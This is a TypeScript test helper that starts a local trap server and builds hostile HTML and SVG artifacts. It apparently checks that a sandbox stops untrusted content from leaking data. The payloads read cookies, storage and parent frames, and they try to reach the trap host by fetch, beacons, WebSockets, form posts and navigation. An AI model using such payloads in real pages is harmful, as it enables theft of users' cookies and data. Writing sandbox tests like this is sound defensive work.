import { createServer } from "node:http";
import type { AddressInfo } from "node:net";

export interface TrapServer {
  origin: string;
  /** Targets of every request that reached it. */
  hits: string[];
  stop(): Promise<void>;
}

/** A server elsewhere that a hostile file tries to reach. It must never hear of anything. */
export async function startTrap(): Promise<TrapServer> {
  const hits: string[] = [];
  const server = createServer((request, response) => {
    hits.push(request.url ?? "");
    response.setHeader("access-control-allow-origin", "*");
    response.end("caught");
  });
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  return {
    origin: `http://127.0.0.1:${(server.address() as AddressInfo).port}`,
    hits,
    stop: () =>
      new Promise((resolve) => {
        server.closeAllConnections();
        server.close(() => resolve());
      }),
  };
}

/** A page that tries everything a hostile artifact could want, and writes what came of each attempt. */
export function trapPage(trap: string): string {
  return `<!doctype html><meta charset="utf-8"><title>trap</title>
<meta http-equiv="refresh" content="1;url=${trap}/refresh">
<base href="${trap}/base/"><link rel="stylesheet" href="${trap}/style.css"><link rel="dns-prefetch" href="${trap}">
<img src="${trap}/image.png"><iframe src="${trap}/frame"></iframe><object data="${trap}/object"></object>
<form id="form" action="${trap}/form" method="post"><input name="stolen" value="x"></form>
<ul id="log"></ul>
<script src="${trap}/script.js"></script>
<script>
const log = document.getElementById("log");
const note = (name, result) => { const line = document.createElement("li"); line.textContent = name + ": " + result; log.append(line); };
const attempt = (name, act) => { try { note(name, "got " + act()); } catch (error) { note(name, "stopped"); } };
attempt("cookie", () => document.cookie);
attempt("storage", () => localStorage.length);
attempt("parent", () => parent === window ? (() => { throw 0 })() : parent.document.title);
attempt("parent cookie", () => parent.document.cookie);
const tries = [
  fetch("${trap}/fetch").then(() => "got fetch", () => "stopped"),
  fetch("/api/v1/runs").then((answer) => answer.text(), () => "stopped"),
  fetch("${trap}/beacon", { method: "POST", mode: "no-cors", body: "x" }).then(() => "got beacon", () => "stopped"),
];
Promise.all(tries).then((results) => { results.forEach((result, index) => note("fetch " + index, result)); note("end", "done"); });
try { navigator.sendBeacon("${trap}/send-beacon", "x"); } catch {}
try { new WebSocket("${trap.replace("http", "ws")}/socket"); } catch {}
try { new EventSource("${trap}/events"); } catch {}
try { window.open("${trap}/popup"); } catch {}
try { document.getElementById("form").submit(); } catch {}
try { top.location = "${trap}/top"; } catch {}
</script>`;
}

/** The same by means of a vector picture. */
export function trapPicture(trap: string): string {
  return `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="120" height="60" onload="fetch('${trap}/onload')">
<style>@import url("${trap}/import.css"); rect { fill: url("${trap}/fill.svg#a"); }</style>
<script>fetch("${trap}/script"); top.location = "${trap}/top"; alert(document.cookie);</script>
<image href="${trap}/image.png" width="9" height="9"/><use href="${trap}/use.svg#a"/>
<foreignObject width="9" height="9"><iframe xmlns="http://www.w3.org/1999/xhtml" src="${trap}/frame"></iframe></foreignObject>
<rect width="120" height="60"/></svg>`;
}
